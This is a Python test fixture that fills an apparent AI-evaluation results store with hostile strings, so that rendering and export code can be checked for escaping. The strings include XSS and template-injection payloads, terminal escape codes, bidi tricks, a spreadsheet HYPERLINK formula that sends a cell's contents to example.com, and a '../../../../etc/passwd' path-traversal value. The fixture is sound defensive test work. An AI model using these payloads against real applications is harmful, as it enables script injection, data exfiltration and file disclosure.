"""A store whose texts try to do harm: in a page, in a terminal, in a spreadsheet."""

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

from safemt_client.providers.types import reply_hash
from safemt_client.results.store.rows import (
    DialogueRow,
    EventRow,
    JudgeRow,
    RunDialogueRow,
    RunRow,
    StepRow,
    TargetRow,
    TurnRow,
    VerdictRow,
)
from safemt_client.results.store.store import Store

RUN = "hostile00000"
TEXTS = {
    "script": "<script>alert('script')</script><img src=x onerror=alert('onerror')>",
    "attribute": '"\' onmouseover=alert(1) autofocus onfocus=alert(2) x="',
    "template": "{{ 7 * 7 }} {% raw %} ${7*7} hx-get='http://example.com/' <div hx-get='/sql' hx-trigger='load'>",
    "terminal": "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m",
    "reversed": "safe \u202egnihtemos\u202c \u2066inside\u2069 \u200f",
    "long": "x" * 1_000_000,
    "nul": "before\x00after",
    "formula": '=HYPERLINK("http://example.com/?"&A1)',
    "surrogate": "half \ud800 a pair",
    "json": '</script><!--<script>{"a":1}',
}


def make_hostile_store(path: Path) -> Path:
    """One conversation for each of `TEXTS`, which appears in the turn, the reply, the reason and the names."""
    start = datetime(2026, 1, 1, tzinfo=UTC)
    mark = TEXTS["script"]
    with Store.open(path) as store:
        store.save_now(
            RunRow(RUN, RUN, start, "0", mark, "d", "/nowhere", None, "{}"),
            TargetRow(RUN, "t", f"target {mark}", "x/y", "scripted", "on", "{}", None, 0, None),
            JudgeRow(RUN, "j", f"judge {mark}", "x/j", "paper", "r", "{}", None),
            EventRow(RUN, "s", start, "finished", "{}"),
        )
        for n, (name, text) in enumerate(TEXTS.items()):
            key, when = f"d:1:{name}", start + timedelta(seconds=n)
            item = f"{name} {text[:60]}"
            messages = json.dumps([{"role": "user", "content": text, "images": ["../../../../etc/passwd"]}])
            store.save_now(
                RunDialogueRow(RUN, key, None),
                DialogueRow(key, "d", item, 1, text[:40], None, None, None, text, messages, "{}"),
                StepRow(RUN, "t", key, 1, name),
                TurnRow(
                    *(
                        name,
                        1,
                        RUN,
                        "s",
                        "t",
                        "answered",
                        text,
                        text[:90],
                        text[:20],
                        None,
                        200,
                        text[:30],
                        "i",
                    ),
                    *(1, 1, None, None, 0.1, when, 1.5, messages, text, None, "answer"),
                    reply_hash=reply_hash(text),
                ),
                VerdictRow(
                    *(
                        name,
                        "j",
                        name,
                        key,
                        RUN,
                        "s",
                        "unsafe",
                        None,
                        False,
                        text,
                        text,
                        1,
                        1,
                        0.1,
                        when,
                        1.0,
                    ),
                    *(None, "paper 1", "answer", text[:30], None, None, None, None),
                    reply_hash=reply_hash(text),
                ),
            )
    return path
